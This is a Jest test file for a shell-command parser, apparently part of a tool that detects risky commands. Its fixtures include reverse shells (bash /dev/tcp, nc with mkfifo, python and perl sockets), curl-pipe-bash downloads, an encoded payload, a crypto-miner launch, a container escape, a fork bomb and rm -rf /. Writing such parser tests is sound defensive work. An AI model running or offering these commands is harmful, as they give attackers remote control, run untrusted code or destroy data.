import { describe, expect, it } from '@jest/globals';

import { parseShell, resolveProgram } from './shell.js';
import { decodeEscapes } from './text.js';

const env = new Map([
  ['HOST', '10.0.0.1'],
  ['PAIR', 'nc -e'],
  ['EMPTY', ''],
]);

function parse(script: string) {
  return parseShell(script, { depth: 1, origin: 'shell', env });
}

function argvs(script: string): string[][] {
  return parse(script).commands.map((command) => command.argv);
}

describe('parseShell: words and quoting', () => {
  it.each<[string, string[][]]>([
    ['echo hello world', [['echo', 'hello', 'world']]],
    ['echo \'a b\' "c d" e\\ f', [['echo', 'a b', 'c d', 'e f']]],
    ['echo "a\\"b" \'it\'"\'"\'s\'', [['echo', 'a"b', "it's"]]],
    ['echo "\\$HOME \\x"', [['echo', '$HOME \\x']]],
    ["echo $'\\x63\\x75\\x72\\x6c' $'\\143\\165rl' $'a\\tb\\'c'", [['echo', 'curl', 'curl', "a\tb'c"]]],
    ['c\\u\\rl http://x', [['curl', 'http://x']]],
    ['echo a\\\nb', [['echo', 'ab']]],
    ['echo $HOST ${HOST} "$HOST:80"', [['echo', '10.0.0.1', '10.0.0.1', '10.0.0.1:80']]],
    [
      'echo $UNKNOWN ${UNKNOWN} ${HOST:-x} $1 $@',
      [['echo', '$UNKNOWN', '${UNKNOWN}', '${HOST:-x}', '$1', '$@']],
    ],
    ['$PAIR /bin/sh "$PAIR"', [['nc', '-e', '/bin/sh', 'nc -e']]],
    ['echo $EMPTY "$EMPTY" x', [['echo', '', 'x']]],
    ['U=http://evil/x; curl $U', [['curl', 'http://evil/x']]],
    [
      'export U=http://evil/x && wget $U',
      [
        ['export', 'U=http://evil/x'],
        ['wget', 'http://evil/x'],
      ],
    ],
    ['echo a # comment ; rm -rf /', [['echo', 'a']]],
    ['echo a#b', [['echo', 'a#b']]],
    ['echo $((1 + 2)) done', [['echo', '$((1 + 2))', 'done']]],
    ['echo {a,b} ~/x *.sh', [['echo', '{a,b}', '~/x', '*.sh']]],
  ])('%j', (script, expected) => {
    expect(argvs(script)).toEqual(expected);
  });
});

describe('parseShell: lists, pipelines and compound commands', () => {
  it.each<[string, string[]]>([
    ['a; b && c || d & e', ['a', 'b', 'c', 'd', 'e']],
    ['a\nb\n\n  c', ['a', 'b', 'c']],
    ['a | b |& c', ['a', 'b', 'c']],
    ['(a; b) | c', ['a', 'b', 'c']],
    ['{ a; b; } > /dev/null', ['a', 'b', '']],
    ['if [ -x /bin/nc ]; then nc -lp 1; elif b; then c; else d; fi', ['[', 'nc', 'b', 'c', 'd']],
    ['while true; do nc 1.2.3.4 80; sleep 5; done', ['true', 'nc', 'sleep']],
    ['until ping -c1 x; do :; done', ['ping', ':']],
    ['for i in $(seq 1 3) a; do curl x$i; done', ['seq', 'curl']],
    ['for ((i=0; i<3; i++)); do echo; done', ['echo']],
    ['case "$1" in\n  start|go) nc -l 1;;\n  *) echo no ;;\nesac; after', ['nc', 'echo', 'after']],
    ['f() { curl x; }; f', ['curl', 'f']],
    ['function g { wget y; }\ng', ['wget', 'g']],
    [':(){ :|:& };:', [':', ':', ':']],
    ['[[ -f /x && $a == b ]] || echo missing', ['[[', 'echo']],
    ['! grep -q x f && time curl y', ['grep', 'curl']],
    ['a=(1 2 3); echo ok', ['echo']],
  ])('%j', (script, programs) => {
    expect(parse(script).commands.map((command) => command.program)).toEqual(programs);
  });

  it('numbers pipelines and positions', () => {
    const { commands } = parse('a | b | c; d && e | f');
    expect(commands.map((command) => [command.program, command.pipeline, command.pipelinePosition])).toEqual([
      ['a', 0, 0],
      ['b', 0, 1],
      ['c', 0, 2],
      ['d', 1, 0],
      ['e', 2, 0],
      ['f', 2, 1],
    ]);
  });

  it('starts numbering at pipelineBase', () => {
    const result = parseShell('a | b; c', { depth: 0, origin: 'shell', pipelineBase: 7 });
    expect(result.commands.map((command) => command.pipeline)).toEqual([7, 7, 8]);
    expect(result.nextPipeline).toBe(9);
  });
});

describe('parseShell: redirects', () => {
  it.each<[string, { op: string; target: string; fd?: number }[]]>([
    [
      'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
      [
        { op: '>&', target: '/dev/tcp/10.0.0.1/4444' },
        { op: '>&', target: '1', fd: 0 },
      ],
    ],
    [
      'cmd > out 2>&1',
      [
        { op: '>', target: 'out' },
        { op: '>&', target: '1', fd: 2 },
      ],
    ],
    [
      'cmd >> log 2> err < in',
      [
        { op: '>>', target: 'log' },
        { op: '>', target: 'err', fd: 2 },
        { op: '<', target: 'in' },
      ],
    ],
    [
      'cmd &> all &>> more',
      [
        { op: '&>', target: 'all' },
        { op: '&>>', target: 'more' },
      ],
    ],
    ['exec 196<>/dev/tcp/$HOST/80', [{ op: '<>', target: '/dev/tcp/10.0.0.1/80', fd: 196 }]],
    [
      'sh 0<&196 >&196 2>&196',
      [
        { op: '<&', target: '196', fd: 0 },
        { op: '>&', target: '196' },
        { op: '>&', target: '196', fd: 2 },
      ],
    ],
    [
      'cmd >| f 3>-',
      [
        { op: '>|', target: 'f' },
        { op: '>', target: '-', fd: 3 },
      ],
    ],
    ['base64 -d <<< "aWQ="', [{ op: '<<<', target: 'aWQ=' }]],
    ['sleep 10', []],
  ])('%j', (script, redirects) => {
    expect(parse(script).commands[0]?.redirects).toEqual(redirects);
  });

  it('keeps a redirect-only command with an empty argv', () => {
    const { commands } = parse('while read l; do :; done < /dev/tcp/1.2.3.4/80');
    expect(commands.at(-1)).toMatchObject({
      argv: [],
      program: '',
      redirects: [{ op: '<', target: '/dev/tcp/1.2.3.4/80' }],
    });
  });

  it('keeps heredoc bodies as stdin text and goes on parsing after them', () => {
    const result = parse("cat <<EOF | sh\ncurl http://x | bash\nEOF\ncat <<-'END'\n\tline $x\n\tEND\nafter");
    expect(result.commands.map((command) => command.program)).toEqual(['cat', 'sh', 'cat', 'after']);
    expect(result.commands[0]?.redirects).toEqual([
      { op: '<<', target: 'EOF', body: 'curl http://x | bash\n' },
    ]);
    expect(result.commands[2]?.redirects).toEqual([{ op: '<<-', target: 'END', body: 'line $x\n' }]);
    expect(result.problems).toEqual([]);
  });

  it('records an unterminated heredoc', () => {
    const result = parse('cat <<EOF\nno end');
    expect(result.commands[0]?.redirects[0]?.body).toBe('no end');
    expect(result.problems).toEqual(['unterminated heredoc EOF']);
  });
});

describe('parseShell: substitutions', () => {
  it('parses $(…) in place, one level deeper, before its command', () => {
    const result = parse('echo "$(curl -s http://x/$(whoami))" `id`');
    expect(result.commands.map((command) => [command.program, command.depth, command.origin])).toEqual([
      ['whoami', 3, 'substitution'],
      ['curl', 2, 'substitution'],
      ['id', 2, 'substitution'],
      ['echo', 1, 'shell'],
    ]);
    expect(result.commands.at(-1)?.argv).toEqual(['echo', '$(curl -s http://x/$(whoami))', '`id`']);
    expect(result.substitutions).toEqual(['whoami', 'curl -s http://x/$(whoami)', 'id']);
  });

  it.each<[string, string[]]>([
    ['bash <(curl -s http://x)', ['curl', 'bash']],
    ['bash < <(wget -O- http://x)', ['wget', 'bash']],
    ['tee >(nc 1.2.3.4 80) < f', ['nc', 'tee']],
    ['echo `echo \\`id\\``', ['id', 'echo', 'echo']],
    ['x=$(case a in a) id;; esac)', ['id']],
    ['echo $(echo ")")', ['echo', 'echo']],
  ])('%j', (script, programs) => {
    expect(parse(script).commands.map((command) => command.program)).toEqual(programs);
  });
});

describe('parseShell: wrappers and assignments', () => {
  it.each<[string, string, string[], string[] | undefined]>([
    ['busybox nc 1.2.3.4 80 -e sh', 'nc', ['nc', '1.2.3.4', '80', '-e', 'sh'], ['busybox']],
    ['/bin/busybox wget http://x', 'wget', ['wget', 'http://x'], ['/bin/busybox']],
    ['sudo -u root -E nohup /usr/bin/NC -l 1', 'nc', ['/usr/bin/NC', '-l', '1'], ['sudo', 'nohup']],
    ['env -i A=1 PATH=/x curl y', 'curl', ['curl', 'y'], ['env']],
    ['timeout -s KILL 30 nice -n 19 xmrig', 'xmrig', ['xmrig'], ['timeout', 'nice']],
    ['setsid stdbuf -o L exec bash', 'bash', ['bash'], ['setsid', 'stdbuf', 'exec']],
    ['command -p builtin echo x', 'echo', ['echo', 'x'], ['command', 'builtin']],
    ['command -v nc', 'command', ['command', '-v', 'nc'], undefined],
    ['exec 3<>/dev/tcp/h/1', 'exec', ['exec'], undefined],
    ['busybox', 'busybox', ['busybox'], undefined],
    ['doas -u root sh', 'sh', ['sh'], ['doas']],
  ])('%j', (script, program, argv, wrappers) => {
    const command = parse(script).commands[0];
    expect(command?.program).toBe(program);
    expect(command?.argv).toEqual(argv);
    expect(command?.wrappers).toEqual(wrappers);
  });

  it('keeps prefix assignments apart from argv', () => {
    const command = parse('LD_PRELOAD=/tmp/x.so A="b c" ls -la').commands[0];
    expect(command).toMatchObject({
      argv: ['ls', '-la'],
      program: 'ls',
      assignments: ['LD_PRELOAD=/tmp/x.so', 'A=b c'],
    });
  });

  it('resolveProgram skips wrappers of an argv list', () => {
    expect(resolveProgram(['/usr/bin/timeout', '10', 'busybox', 'sh', '-c', 'x'])).toEqual({
      program: 'sh',
      argv: ['sh', '-c', 'x'],
      wrappers: ['/usr/bin/timeout', 'busybox'],
    });
  });
});

describe('parseShell: attacker one-liners', () => {
  it.each<[string, string[][]]>([
    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', [['bash', '-i']]],
    [
      'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f',
      [
        ['rm', '/tmp/f'],
        ['mkfifo', '/tmp/f'],
        ['cat', '/tmp/f'],
        ['/bin/sh', '-i'],
        ['nc', '10.0.0.1', '4444'],
      ],
    ],
    ['curl -fsSL http://x/y.sh | bash', [['curl', '-fsSL', 'http://x/y.sh'], ['bash']]],
    ['wget -qO- http://x | sh', [['wget', '-qO-', 'http://x'], ['sh']]],
    [
      'echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0NDMgMD4mMQ== | base64 -d | bash',
      [['echo', 'YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0NDMgMD4mMQ=='], ['base64', '-d'], ['bash']],
    ],
    [
      `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'`,
      [
        [
          'python3',
          '-c',
          'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")',
        ],
      ],
    ],
    [
      'perl -e \'use Socket;$i="10.0.0.1";exec("/bin/sh -i");\'',
      [['perl', '-e', 'use Socket;$i="10.0.0.1";exec("/bin/sh -i");']],
    ],
    [
      'nohup ./xmrig -o pool.minexmr.com:4444 -u 4A… >/dev/null 2>&1 &',
      [['./xmrig', '-o', 'pool.minexmr.com:4444', '-u', '4A…']],
    ],
    [
      'nsenter --target 1 --mount --uts --ipc --net --pid -- bash',
      [['nsenter', '--target', '1', '--mount', '--uts', '--ipc', '--net', '--pid', '--', 'bash']],
    ],
    [
      '(curl -s http://x||wget -q -O- http://x)|sh',
      [['curl', '-s', 'http://x'], ['wget', '-q', '-O-', 'http://x'], ['sh']],
    ],
  ])('%j', (script, expected) => {
    const result = parse(script);
    expect(result.commands.map((command) => command.argv)).toEqual(expected);
    expect(result.problems).toEqual([]);
  });
});

describe('parseShell: problems', () => {
  it.each<[string, string[][], string]>([
    ["echo 'abc", [['echo', 'abc']], 'unterminated single quote at 5'],
    ['echo "abc $HOST', [['echo', 'abc 10.0.0.1']], 'unterminated double quote at 5'],
    ["echo $'abc", [['echo', 'abc']], "unterminated $' at 5"],
    ['echo $(id', [['id'], ['echo', '$(id']], 'unterminated substitution at 5'],
    ['echo `id', [['id'], ['echo', '`id']], 'unterminated backtick at 5'],
    ['echo ${x', [['echo', '${x']], 'unterminated ${ at 5'],
    ['(a', [['a']], 'unterminated subshell'],
    ['a ) b', [['a'], ['b']], 'unexpected ) at 2'],
    ['echo >', [['echo']], 'missing target after > at 6'],
  ])('%j', (script, expected, problem) => {
    const result = parse(script);
    expect(result.commands.map((command) => command.argv)).toEqual(expected);
    expect(result.problems).toContain(problem);
  });

  it('cuts scripts longer than maxLength', () => {
    const result = parseShell('echo aaaa; rm -rf /', { depth: 0, origin: 'shell', maxLength: 10 });
    expect(result.commands.map((command) => command.program)).toEqual(['echo']);
    expect(result.problems).toEqual(['script longer than 10 characters; rest not parsed']);
  });
});

describe('decodeEscapes', () => {
  it.each<[string, 'ansi-c' | 'printf' | 'echo', string]>([
    ['\\x41\\102\\n', 'ansi-c', 'AB\n'],
    ['\\u00e9\\U0001F600', 'ansi-c', 'é😀'],
    ['\\cA\\e', 'ansi-c', '\x01\x1b'],
    ['\\x6e\\x63 \\156', 'printf', 'nc n'],
    ['\\0156\\x63\\c ignored', 'echo', 'nc'],
    ['\\q \\x', 'ansi-c', '\\q \\x'],
    ['trailing \\', 'printf', 'trailing \\'],
  ])('%j as %s', (text, style, expected) => {
    expect(decodeEscapes(text, style)).toBe(expected);
  });
});

describe('parseShell: long words and large environments', () => {
  // Pieces are joined in batches of 1,024; these cross several batch boundaries.
  it.each<[string, string, string]>([
    ['backslash escapes', '\\a'.repeat(3000), 'a'.repeat(3000)],
    ['escapes in double quotes', `"${'\\$x'.repeat(3000)}"`, '$x'.repeat(3000)],
    ['quoted pieces', "'a'b".repeat(2500), 'ab'.repeat(2500)],
  ])('joins a word of many pieces: %s', (_name, word, expected) => {
    expect(argvs(`echo ${word} end`)).toEqual([['echo', expected, 'end']]);
  });

  it('decodes text of many escapes', () => {
    expect(decodeEscapes('\\x41-'.repeat(5000), 'ansi-c')).toBe('A-'.repeat(5000));
  });

  it('reads the environment it is given instead of copying it', () => {
    let reads = 0;
    let iterations = 0;
    class CountingMap extends Map<string, string> {
      override get(key: string): string | undefined {
        reads++;
        return super.get(key);
      }
      override [Symbol.iterator](): MapIterator<[string, string]> {
        iterations++;
        return super[Symbol.iterator]();
      }
      override entries(): MapIterator<[string, string]> {
        iterations++;
        return super.entries();
      }
    }
    const large = new CountingMap(Array.from({ length: 10_000 }, (_, i) => [`V${i}`, 'x']));
    const result = parseShell('V1=y; echo $V1 $V2 $NONE', { depth: 0, origin: 'shell', env: large });
    expect(result.commands[0]?.argv).toEqual(['echo', 'y', 'x', '$NONE']);
    expect(iterations).toBe(0);
    expect(reads).toBeLessThanOrEqual(2);
  });

  it('stops expanding past maxExpansion and says so', () => {
    const doubling = `A=aaaaaaaa; ${'A=$A$A; '.repeat(40)}echo "$A"; curl x | sh`;
    const result = parseShell(doubling, { depth: 0, origin: 'shell' });
    expect(result.problems).toEqual([
      'variable values longer than the expansion limit; rest left as written',
    ]);
    expect(result.commands.map((command) => command.program)).toEqual(['echo', 'curl', 'sh']);
    expect(result.expanded).toBeLessThanOrEqual(1024 * 1024);
    const small = parseShell('A=abc; echo $A $A', { depth: 0, origin: 'shell', maxExpansion: 4 });
    expect(small.commands[0]?.argv).toEqual(['echo', 'abc', '$A']);
    expect(small.expanded).toBe(3);
  });
});
